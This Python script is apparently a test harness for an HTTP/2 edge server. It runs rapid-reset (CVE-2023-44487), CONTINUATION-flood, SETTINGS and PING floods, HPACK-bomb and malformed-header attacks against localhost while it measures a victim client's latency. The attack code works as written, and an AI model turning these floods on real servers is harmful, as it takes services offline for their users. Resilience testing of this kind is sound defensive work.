#!/usr/bin/env python3
"""HTTP/2 attacks against the edge for EdgeHTTP2Tests, with a raw client (PyPI `h2`, `hyperframe`, `hpack`).

  h2_attacks.py PORT HOST ATTACK [--seconds S]

ATTACK is one of rapid-reset (CVE-2023-44487: HEADERS then RST_STREAM, as fast as possible), continuation (HEADERS
without END_HEADERS followed by endless CONTINUATION frames), settings (a SETTINGS flood), ping (a PING flood),
hpack-bomb (one 4 KiB header put in the dynamic table, then a header block that names it thousands of times),
malformed (requests with an upper-case field name, each a stream error, as fast as possible).
While the attack runs, a second client sends plain HTTP/1.1 requests on its own keep-alive connection and records
their latency. Prints one JSON line:
  {"attack", "goaway": error code or null, "closed": bool, "sent": frames/streams sent, "reset_streams": n,
   "status": status of the bomb stream or null, "victim_ok", "victim_failed", "victim_p50_ms", "victim_p99_ms"}
"""
import http.client
import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame


class Victim(threading.Thread):
    """Sequential GETs on one keep-alive HTTP/1.1 connection until stopped."""

    def __init__(self, port, host):
        super().__init__(daemon=True)
        self.port, self.host = port, host
        self.latencies, self.failed, self.stop = [], 0, False

    def run(self):
        conn = None
        while not self.stop:
            try:
                if conn is None:
                    conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
                t = time.monotonic()
                conn.request("GET", "/?victim=1", headers={"Host": self.host})
                r = conn.getresponse()
                r.read()
                if r.status != 200:
                    self.failed += 1
                else:
                    self.latencies.append((time.monotonic() - t) * 1000)
            except Exception:
                self.failed += 1
                conn = None
            time.sleep(0.005)

    def percentile(self, p):
        xs = sorted(self.latencies)
        return round(xs[min(len(xs) - 1, int(len(xs) * p))], 2) if xs else None


def connect(port, validate=True):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                             validate_outbound_headers=validate,
                                                             normalize_outbound_headers=validate))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    return s, c


def request_headers(host, path="/echo"):
    return [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)]


class Reader(threading.Thread):
    """Reads what the edge sends: notes GOAWAY, stream resets, response statuses and the close."""

    def __init__(self, sock, conn):
        super().__init__(daemon=True)
        self.sock, self.conn = sock, conn
        self.goaway, self.closed, self.resets, self.statuses, self.error = None, False, 0, {}, None
        self.raw = b""
        self.lock = threading.Lock()

    def scan(self, data):
        """Notes a GOAWAY from the raw frames too: `h2` raises on a frame it finds out of place (RST_STREAM after
        GOAWAY, which RFC 9113 allows for streams the GOAWAY covers) and the events of that read are lost."""
        self.raw += data
        while len(self.raw) >= 9:
            length = int.from_bytes(self.raw[0:3], "big")
            if len(self.raw) < 9 + length:
                return
            if self.raw[3] == 7 and length >= 8 and self.goaway is None:
                self.goaway = int.from_bytes(self.raw[13:17], "big")
            self.raw = self.raw[9 + length:]

    def run(self):
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    return
                self.scan(data)
                with self.lock:
                    try:
                        events = self.conn.receive_data(data)
                    except Exception as e:  # noted: the frames after it in this read are lost to the count
                        self.error = self.error or repr(e)
                        events = []
                    for e in events:
                        if isinstance(e, h2.events.ConnectionTerminated):
                            self.goaway = e.error_code
                        elif isinstance(e, h2.events.StreamReset):
                            self.resets += 1
                        elif isinstance(e, h2.events.ResponseReceived):
                            self.statuses[e.stream_id] = dict(e.headers).get(":status")
                    out = self.conn.data_to_send()
                try:
                    if out:
                        self.sock.sendall(out)
                except OSError:
                    pass
        except OSError:
            self.closed = True


def send_raw(sock, frame_bytes):
    try:
        sock.sendall(frame_bytes)
        return True
    except OSError:
        return False


def attack(port, host, kind, seconds):
    sock, conn = connect(port, validate=kind != "malformed")
    reader = Reader(sock, conn)
    reader.start()
    sent = 0
    deadline = time.monotonic() + seconds
    bomb_stream = None
    if kind == "rapid-reset":
        while time.monotonic() < deadline and not reader.closed and reader.goaway is None:
            with reader.lock:
                try:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, request_headers(host), end_stream=True)
                    conn.reset_stream(sid, error_code=8)  # CANCEL
                except h2.exceptions.ProtocolError:
                    break  # the edge sent GOAWAY
                out = conn.data_to_send()
            if not send_raw(sock, out):
                break
            sent += 1
    elif kind == "malformed":
        while time.monotonic() < deadline and not reader.closed and reader.goaway is None:
            with reader.lock:
                try:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, request_headers(host) + [("X-Upper", "1")], end_stream=True)
                    out = conn.data_to_send()
                except h2.exceptions.TooManyStreamsError:
                    out = None  # the resets have not come back yet
                except h2.exceptions.ProtocolError:
                    break  # the edge sent GOAWAY
            if out is None:
                time.sleep(0.001)
                continue
            if not send_raw(sock, out):
                break
            sent += 1
    elif kind == "continuation":
        with reader.lock:
            sid = conn.get_next_available_stream_id()
        block = hpack.Encoder().encode(request_headers(host))
        first = HeadersFrame(sid, data=block, flags=["END_STREAM"])  # no END_HEADERS
        send_raw(sock, first.serialize())
        piece = hpack.Encoder().encode([("x-filler", "a" * 16)])
        while time.monotonic() < deadline and not reader.closed:
            if not send_raw(sock, ContinuationFrame(sid, data=piece).serialize()):
                break
            sent += 1
    elif kind in ("settings", "ping"):
        while time.monotonic() < deadline and not reader.closed and reader.goaway is None:
            f = SettingsFrame(0, settings={}) if kind == "settings" else PingFrame(0, opaque_data=sent.to_bytes(8, "big"))
            if not send_raw(sock, f.serialize()):
                break
            sent += 1
    elif kind == "hpack-bomb":
        enc = hpack.Encoder()
        with reader.lock:
            sid = conn.get_next_available_stream_id()
        # A literal with incremental indexing puts the 4 KiB value at dynamic index 62; each 0xBE byte names it again.
        block = enc.encode(request_headers(host) + [("x-bomb", "b" * 4000)]) + bytes([0xBE]) * 4000
        frames = []
        step = 16000
        for i in range(0, len(block), step):
            chunk = block[i:i + step]
            last = i + step >= len(block)
            if i == 0:
                frames.append(HeadersFrame(sid, data=chunk, flags=["END_STREAM"] + (["END_HEADERS"] if last else [])))
            else:
                frames.append(ContinuationFrame(sid, data=chunk, flags=["END_HEADERS"] if last else []))
        for f in frames:
            if send_raw(sock, f.serialize()):
                sent += 1
        bomb_stream = sid
    end_wait = time.monotonic() + 5
    # Until the edge closes (a GOAWAY comes first: wait for the close behind it), or the bomb's stream was refused
    # or answered on a connection that stays open.
    while time.monotonic() < end_wait and not reader.closed:
        if kind == "hpack-bomb" and reader.goaway is None and (reader.resets or reader.statuses):
            break
        time.sleep(0.05)
    try:
        sock.close()
    except OSError:
        pass
    return {"goaway": reader.goaway if reader.goaway is None else int(reader.goaway), "closed": reader.closed, "sent": sent,
            "reset_streams": reader.resets, "status": reader.statuses.get(bomb_stream) if bomb_stream else None, "client_error": reader.error}


def main():
    port, host, kind = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    seconds = float(sys.argv[sys.argv.index("--seconds") + 1]) if "--seconds" in sys.argv else 5.0
    victim = Victim(port, host)
    victim.start()
    time.sleep(0.3)
    result = attack(port, host, kind, seconds)
    time.sleep(0.5)
    victim.stop = True
    victim.join(timeout=10)
    result.update(attack=kind, victim_ok=len(victim.latencies), victim_failed=victim.failed,
                  victim_p50_ms=victim.percentile(0.5), victim_p99_ms=victim.percentile(0.99))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
